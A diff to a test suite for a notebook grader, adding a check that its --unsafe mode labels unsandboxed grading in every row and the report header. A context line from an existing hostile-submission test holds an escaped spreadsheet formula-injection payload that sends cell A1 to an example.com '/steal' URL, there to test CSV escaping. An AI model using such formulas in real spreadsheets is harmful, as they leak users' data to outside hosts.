@@ -107,3 +107,25 @@ describe('grade: hostile submissions in the sandbox (slow: 16 sandboxed kernels)
     assert.match(csv, /"'=HYPERLINK\(""http:\/\/example\.com\/steal\?""&A1,""see my answer""\)"/);
   });
 });
+
+describe('grade: --unsafe grades without the sandbox and says so (slow: one kernel)', function () {
+  this.timeout(600_000);
+
+  it('runs the notebook unboxed, judged outside, and every row and the report header say so', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cnnviz-unsafe-'));
+    saveSubmission(path.join(dir, 'subs'), { student: 'ann', nb: solution() });
+    const run = await gradeSubmissions(path.join(dir, 'subs'), {
+      out: path.join(dir, 'report'),
+      assignments: readAssignments(TEMPLATES).filter((a) => a.id === ASSIGNMENT),
+      root: REPO,
+      python: jupyterPython(),
+      timeoutS: 150,
+      unsafe: true,
+    });
+    assert.strictEqual(run.sandbox, 'none (--unsafe)');
+    assert.strictEqual(run.rows[0].score, 2, JSON.stringify(run.rows[0].notebooks[0]));
+    assert.match(run.rows[0].notebooks[0].problems.join('\n'), /^unsafe: graded WITHOUT a sandbox/m);
+    assert.match(fs.readFileSync(run.files.html, 'utf8'), /Sandbox: none \(--unsafe\)\./);
+    assert.match(fs.readFileSync(run.files.csv, 'utf8'), /unsafe: graded WITHOUT a sandbox/);
+  });
+});
